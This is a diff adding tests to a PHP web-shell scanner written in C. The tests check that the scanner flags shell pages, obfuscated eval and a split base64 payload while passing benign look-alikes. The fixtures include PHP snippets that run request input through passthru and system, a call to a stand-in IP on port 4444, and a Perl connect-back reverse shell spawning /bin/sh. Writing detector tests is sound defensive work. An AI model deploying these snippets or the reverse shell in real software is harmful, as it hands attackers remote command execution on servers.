@@ -1287,6 +1287,123 @@ test_objects_sockets_methods(void)
 	T_CLEAN("x.php", "<?php\n$help = 'The socket could not be opened: check the server address and port, then retry.';\n");
 }
 
+/* what a shell does, told by evidence of its own beside the other checks */
+static void
+test_shell_behaviours(void)
+{
+	/* a shell's header: who it runs as, the host, the disk, the restrictions,
+	 * in a page of no application that also runs commands or changes files */
+	T_HAS("x.php", "<?php\necho php_uname() . '<br>';\n$u = posix_getpwuid(posix_geteuid());\n"
+		       "echo $u['name'], ' ', disk_free_space('/'), ' safe mode: ', ini_get('safe_mode');\n"
+		       "if (isset($_POST['c'])) echo shell_exec('ls -la');\n",
+	      PHPSCAN_HOST_RECON, PHPSCAN_WEAK, 2);
+	T_HAS("x.php", "<?php\n$d = opendir('.');\nwhile ($f = readdir($d)) echo $f;\nunlink('old.txt');\n"
+		       "echo get_current_user(), getmyuid(), disk_total_space('.');\n",
+	      PHPSCAN_HOST_RECON, PHPSCAN_WEAK, 5);
+	/* the same questions in an application's status page, a command-line
+	 * script, or beside no tool; settings of its own asked: none */
+	T_CLEAN("x.php", "<?php\nrequire 'lib/app.php';\necho php_uname(), get_current_user(), disk_free_space('/');\n"
+			 "unlink($cache);\n");
+	T_CLEAN("x.php", "<?php\necho php_uname(), get_current_user(), disk_free_space('/');\n");
+	T_CLEAN("x.php", "<?php\nif (PHP_SAPI !== 'cli') exit;\necho php_uname(), getmyuid(), disk_free_space('/');\n"
+			 "unlink($argv[1]);\n");
+	T_CLEAN("x.php", "<?php\necho php_uname(), ini_get('memory_limit'), ini_get('upload_max_filesize');\n"
+			 "file_put_contents('info.txt', phpversion());\n");
+	/* $f = passthru;: a runner named by a bare word (an undefined constant,
+	 * its own name before PHP 8), given input */
+	T_HAS("x.php", "<?php\n$f = passthru;\necho $f($_POST['cmd']);\n", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
+	T_HAS("x.php", "<?php\n$run=System?>\n<?php $run($_GET['c']);\n", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
+	/* an application's constant of that name, a constant in capitals: no runner */
+	T_CLEAN("x.php", "<?php\n$mode = SYSTEM;\necho $mode($_GET['x']);\n");
+	T_CLEAN("x.php", "<?php\n$m = Config::system;\n$n = strtolower;\n");
+	/* a function of its own running its parameter through one runner after
+	 * another, called at the top level: a command page (also without a form) */
+	T_HAS("x.php", "<?php\nfunction ex($c) {\n if (function_exists('exec')) { exec($c, $o); return join(\"\\n\", $o); }\n"
+		       " elseif (function_exists('shell_exec')) return shell_exec($c);\n return '';\n}\n"
+		       "function which($p) { $w = ex('which ' . $p); return $w ? $w : $p; }\n"
+		       "ex(which('perl') . ' /tmp/.b 203.0.113.9 4444 &');\n",
+	      PHPSCAN_COMMAND_PAGE, PHPSCAN_WEAK, 3);
+	/* ... defined and never called from the top level, or in a command-line script */
+	T_CLEAN("x.php", "<?php\nfunction ex($c) {\n if (function_exists('exec')) { exec($c, $o); return $o; }\n"
+			 " return shell_exec($c);\n}\n");
+	T_CLEAN("x.php", "<?php\nfunction ex($c) {\n if (function_exists('exec')) { exec($c, $o); return $o; }\n"
+			 " return shell_exec($c);\n}\nex('git ' . $argv[1]);\n");
+	/* a tool in one file that carries a class of its own (an archiver): judged
+	 * as a page standing alone, its methods included */
+	T_HAS("x.php", "<?php\nclass Zipper { function add($d) { foreach (scandir($d) as $f) $this->files[] = $f; } }\n"
+		       "$d = $_GET['d'];\nif (isset($_POST['del'])) unlink($d . '/' . $_POST['del']);\n"
+		       "$z = new Zipper();\n$z->add($d);\n",
+	      PHPSCAN_FILE_TOOL, PHPSCAN_WEAK, 2);
+	T_HAS("x.php", "<?php\nclass Db { function q($s) { $l = mysqli_connect('localhost', $_POST['u'], $_POST['p']);\n"
+		       " return mysqli_query($l, $s); } }\n$db = new Db();\nprint_r($db->q($_POST['sql']));\n",
+	      PHPSCAN_DB_TOOL, PHPSCAN_WEAK, 2);
+	/* ... not one in a namespace, one including code, one reading the request
+	 * in its methods alone, a command-line script */
+	T_CLEAN("x.php", "<?php\nnamespace App\\Files;\nclass Zipper { function add($d) { return scandir($d); } }\n"
+			 "$d = $_GET['d'];\nunlink($d . '/' . $_POST['del']);\n");
+	T_CLEAN("x.php", "<?php\nrequire_once 'lib/init.php';\nclass Zipper { function add($d) { return scandir($d); } }\n"
+			 "$d = $_GET['d'];\nunlink($d . '/' . $_POST['del']);\n");
+	T_CLEAN("x.php", "<?php\nclass Cache { function clear() { foreach (scandir($_GET['d']) as $f) unlink($f); } }\n"
+			 "$c = new Cache();\n");
+	T_CLEAN("x.php", "<?php\nclass Zipper { function add($d) { return scandir($d); } }\nif (PHP_SAPI !== 'cli') exit;\n"
+			 "$d = $_GET['d'];\nunlink($d . '/' . $argv[1]);\n");
+	/* mail to an address the page hides: decoded, directly or through a variable */
+	T_HAS("x.php", "<?php\n$m = base64_decode('b3duZXJAZXhhbXBsZS5vcmc=');\n$b = $_SERVER['SCRIPT_FILENAME'];\n"
+		       "mail($m, 'new', $b);\n",
+	      PHPSCAN_MAIL_HOME, PHPSCAN_WEAK, 4);
+	T_HAS("x.php", "<?php\n@mail(str_rot13('bjare@rknzcyr.bet'), 'cc', $_POST['cc']);\n", PHPSCAN_MAIL_HOME,
+	      PHPSCAN_WEAK, 2);
+	/* a fixed address; an attachment encoded in the body */
+	T_CLEAN("x.php", "<?php\n$to = 'office@example.org';\n$att = chunk_split(base64_encode(file_get_contents('r.pdf')));\n"
+			 "mail($to, 'report', \"--b\\r\\nContent-Transfer-Encoding: base64\\r\\n\\r\\n\" . $att, $h);\n");
+	/* a payload cut into pieces of one line each, joined by `.`: judged whole */
+	{
+		static char src[16384], b64[4096];
+		static const char perl[] = "#!/usr/bin/perl\n# a connect-back, cut into lines of 76 characters\n"
+					   "use Socket;\n$host = $ARGV[0]; $port = $ARGV[1];\n"
+					   "# ......................................................................\n"
+					   "# ......................................................................\n"
+					   "socket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp')) || die;\n"
+					   "connect(S, sockaddr_in($port, inet_aton($host))) || die;\n"
+					   "open(STDIN, '>&S'); open(STDOUT, '>&S'); open(STDERR, '>&S');\n"
+					   "exec('/bin/sh -i');\n";
+		static const char text[] = "Thank you for installing. The configuration was written; you may now "
+					   "delete the installer, log in with the account you created and add pages. ";
+		size_t n, i, l;
+		uint32_t x = 4242;
+
+		b64enc((const uint8_t *)perl, strlen(perl), b64);
+		n = (size_t)snprintf(src, sizeof(src), "<?php\n$bc = ");
+		for (i = 0, l = strlen(b64); i < l; i += 76)
+			n += (size_t)snprintf(src + n, sizeof(src) - n, "%s'%.76s'", i ? " .\n  " : "", b64 + i);
+		snprintf(src + n, sizeof(src) - n, ";\nfile_put_contents('/tmp/.bc', base64_decode($bc));\n");
+		T_HAS("x.php", src, PHPSCAN_CONNECT_BACK, PHPSCAN_WEAK, 2);
+		/* an encoded payload in 30 pieces, given to an own decoder, eval'd */
+		n = (size_t)snprintf(src, sizeof(src), "<?php\nfunction d($s) { return base64_decode(strtr($s, 'ab', 'ba')); }\n$p = ");
+		for (i = 0; i < 3000; i++) {
+			x = x * 1103515245u + 12345u;
+			if (i % 100 == 0)
+				n += (size_t)snprintf(src + n, sizeof(src) - n, "%s'", i ? "' .\n" : "");
+			src[n++] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"[(x >> 16) & 63];
+		}
+		snprintf(src + n, sizeof(src) - n, "';\neval(d($p));\n");
+		T_HAS("x.php", src, PHPSCAN_OBFUSCATED_EVAL, PHPSCAN_HIGH, 0);
+		T_HAS("x.php", src, PHPSCAN_ENCODED_BLOB, PHPSCAN_WEAK, 0);
+		/* text in pieces, a harmless text in base64 pieces: no payload */
+		n = (size_t)snprintf(src, sizeof(src), "<?php\n$msg = ");
+		for (i = 0; i < 8; i++)
+			n += (size_t)snprintf(src + n, sizeof(src) - n, "%s'%s'", i ? " .\n  " : "", text);
+		snprintf(src + n, sizeof(src) - n, ";\necho $msg;\n");
+		T_CLEAN("x.php", src);
+		b64enc((const uint8_t *)text, strlen(text), b64);
+		n = (size_t)snprintf(src, sizeof(src), "<?php\n$m = ");
+		for (i = 0; i < 6; i++)
+			n += (size_t)snprintf(src + n, sizeof(src) - n, "%s'%s'", i ? " .\n  " : "", b64);
+		snprintf(src + n, sizeof(src) - n, ";\necho base64_decode($m);\n");
+		T_CLEAN("x.php", src);
+	}
+}
+
 int
 main(void)
 {
@@ -1298,6 +1415,7 @@ main(void)
 	T_RUN(test_callbacks_more);
 	T_RUN(test_gates_and_reads);
 	T_RUN(test_objects_sockets_methods);
+	T_RUN(test_shell_behaviours);
 	T_RUN(test_tools);
 	T_RUN(test_placement);
 	T_RUN(test_config_files);
